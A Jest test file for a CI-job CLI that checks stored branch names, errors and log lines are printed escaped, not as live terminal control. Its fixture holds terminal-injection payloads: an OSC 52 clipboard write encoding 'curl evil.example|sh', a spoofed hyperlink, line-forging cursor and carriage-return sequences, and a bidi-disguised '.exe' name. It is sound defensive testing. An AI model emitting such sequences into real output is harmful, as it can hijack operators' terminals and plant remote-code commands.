import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, jest, test } from "@jest/globals";
import { LowdbJobStore } from "../../src/adapters/store/lowdb-store.js";
import { transition } from "../../src/core/job.js";
import { run as jobsCli } from "../../src/cli/commands/jobs.js";
import { run as deliveriesCli } from "../../src/cli/commands/deliveries.js";
import { run as analyzeLogCli } from "../../src/cli/commands/analyze-log.js";
import { makeDelivery, makeJob } from "../helpers/make-job.js";

/**
 * Stored text comes from CI logs, branch names, PR text and model output: a hostile PR's tests can print any
 * byte. None of it may drive the operator's terminal when the CLI prints it.
 */
const HOSTILE = {
  colour: "\x1b[31mred\x1b[0m",
  title: "\x1b]0;owned\x07", // OSC 0: window title
  link: "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\", // OSC 8 hyperlink
  clipboard: "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07", // OSC 52: writes the clipboard
  rewrite: "\x1b[1A\x1b[2K", // cursor up, clear line: rewrites what was printed above
  cr: "oops\rstate     completed", // a bare CR overwrites the line
  bell: "ding\x07",
  c0: "back\x08\x08space\x00nul\x0bvt",
  c1: "\u009b31mcsi\u009d0;t\u009c", // 8-bit CSI, OSC and ST
  bidi: "abc\u202egnp.exe\u202c \u2066iso\u2069 \u202a\u202b\u202d",
  forged: "x\nstate     completed", // a newline in a one-line field starts a line of its own
  separator: "a\u2028b\u2029c",
} as const;
const ALL = Object.values(HOSTILE).join(" | ");

// What must never reach the terminal raw: C0 but the layout's \n, DEL, C1, separators and bidi controls.
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function capture() {
  const io = { stdout: "", stderr: "", out: (t: string) => void (io.stdout += t), err: (t: string) => void (io.stderr += t) };
  return io;
}

/** Each kind of sequence is shown, visibly escaped, where it was. */
function expectShownEscaped(text: string): void {
  expect(text).not.toMatch(RAW_CONTROL);
  expect(text).toContain("\\x1b[31mred\\x1b[0m");
  expect(text).toContain("\\x1b]0;owned\\x07");
  expect(text).toContain("\\x1b]8;;https://evil.example/\\x1b\\docs");
  expect(text).toContain("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07");
  expect(text).toContain("\\x1b[1A\\x1b[2K");
  expect(text).toContain("oops\\rstate     completed");
  expect(text).toContain("back\\x08\\x08space\\x00nul\\x0bvt");
  expect(text).toContain("\\x9b31mcsi\\x9d0;t\\x9c");
  expect(text).toContain("abc\\u202egnp.exe\\u202c \\u2066iso\\u2069 \\u202a\\u202b\\u202d");
  expect(text).toContain("x\\nstate     completed");
  expect(text).toContain("a\\u2028b\\u2029c");
  // No value made a line of its own that reads as the CLI's.
  expect(text).not.toMatch(/^state {5}completed/m);
}

describe("CLI output: stored text never drives the terminal", () => {
  let dir: string;
  let env: Record<string, string>;
  let jobId: string;

  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), "t0-cli-tty-"));
    env = { DATA_DIR: dir };
    const store = await LowdbJobStore.open(dir);
    const job = makeJob({ runId: 21 });
    job.run.headBranch = `feature/${ALL}`;
    job.run.name = `CI ${ALL}`;
    await store.recordIntake(makeDelivery(job, { outcome: "job_created" }), "{}", job);
    await store.recordIntake(makeDelivery(undefined, { outcome: "invalid", action: `completed${HOSTILE.rewrite}`, reason: `bad payload: ${ALL}` }), "{}");
    await store.updateJob(job.id, (j) => {
      transition(j, "analysis", "2026-11-23T12:01:00.000Z", { stage: "fetch-logs", note: `log says ${ALL}` });
      j.error = { code: "validation_failed", message: `npm test printed ${ALL}`, retryable: false, stage: "apply-and-validate", at: "2026-11-23T12:02:00.000Z" };
      transition(j, "failed", "2026-11-23T12:02:00.000Z", { stage: "apply-and-validate" });
    });
    await store.close();
    jobId = job.id;
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  test("jobs list: each kind of sequence in a branch name is shown escaped, and the table stays one row per job", async () => {
    const io = capture();
    expect(await jobsCli(["list"], env, io)).toBe(0);
    expectShownEscaped(io.stdout);
    expect(io.stdout.trimEnd().split("\n")).toHaveLength(2);
  });

  test("jobs show: run name, branch, error, history note all shown escaped", async () => {
    const io = capture();
    expect(await jobsCli(["show", jobId], env, io)).toBe(0);
    expectShownEscaped(io.stdout);
    expect(io.stdout).toContain(`error     validation_failed in apply-and-validate: npm test printed \\x1b[31mred`);
  });

  test("deliveries list: a delivery's reason and action shown escaped, one line each", async () => {
    const io = capture();
    expect(await deliveriesCli(["list"], env, io)).toBe(0);
    expectShownEscaped(io.stdout);
    expect(io.stdout.trimEnd().split("\n")).toHaveLength(2);
  });

  // `--url` can point anywhere: whatever answers there is quoted, not obeyed.
  test("jobs retry through a server: its message and its error are shown escaped", async () => {
    let answer = { status: 202, body: { message: `queued ${ALL}` } as object };
    const server = createServer((_req, res) => res.writeHead(answer.status, { "content-type": "application/json" }).end(JSON.stringify(answer.body)));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const ok = capture();
      expect(await jobsCli(["retry", jobId, "--url", url], { ...env, ADMIN_TOKEN: "t".repeat(32) }, ok)).toBe(0);
      expectShownEscaped(ok.stdout);
      answer = { status: 409, body: { error: { message: `refused ${ALL}` } } };
      const refused = capture();
      expect(await jobsCli(["retry", jobId, "--url", url], { ...env, ADMIN_TOKEN: "t".repeat(32) }, refused)).toBe(1);
      expectShownEscaped(refused.stderr);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  // JSON.stringify escapes C0 but leaves DEL, C1, U+2028/2029 and bidi controls raw: written as \uXXXX they are
  // the same characters to jq and JSON.parse, and nothing to a terminal.
  test("--json: no raw control reaches the terminal, and the parsed value is exactly what is stored", async () => {
    for (const [cli, args] of [
      [jobsCli, ["list", "--json"]],
      [jobsCli, ["show", jobId, "--json"]],
      [deliveriesCli, ["list", "--json"]],
    ] as const) {
      const io = capture();
      expect(await cli([...args], env, io)).toBe(0);
      expect(io.stdout).not.toMatch(RAW_CONTROL);
      expect(JSON.stringify(JSON.parse(io.stdout))).toContain(JSON.stringify(ALL).slice(1, -1));
    }
  });
});

describe("analyze-log: a hostile log's lines are shown escaped", () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), "t0-cli-tty-log-"));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  test("the report keeps the excerpts' line breaks and escapes every other control", async () => {
    // The log analyser drops ANSI CSI/OSC codes (as a person reads the log); the rest must still not reach the terminal.
    const hostile = ["\u009b2J\u009b31m wiped", "abc\u202egnp.exe", "ding\x07 \x1b[1A\x1b[2K", "tab\there"];
    const log = ["Run tests", ...hostile.map((h) => `Error: ${h}`), "FAIL src/a.test.js", "  ● sum › adds\u202e", "Error: Process completed with exit code 1."].join("\n");
    const file = join(dir, "job.log");
    await writeFile(file, `${log}\n`);
    let out = "";
    const spy = jest.spyOn(process.stdout, "write").mockImplementation((c: string | Uint8Array) => ((out += String(c)), true));
    try {
      expect(await analyzeLogCli([file])).toBe(0);
    } finally {
      spy.mockRestore();
    }
    // A tab inside a log line stays a tab: the excerpt block is the log's own layout.
    expect(out.replace(/\t/g, "")).not.toMatch(RAW_CONTROL);
    expect(out).toContain("Error: \\x9b2J\\x9b31m wiped");
    expect(out).toContain("abc\\u202egnp.exe");
    expect(out).toContain("ding\\x07");
    expect(out).toContain("\nError: tab\there\n"); // in the excerpt, as the log has it
    expect(out).toContain("[error] Error: tab\\there"); // in the one-line list of errors, escaped
  });
});
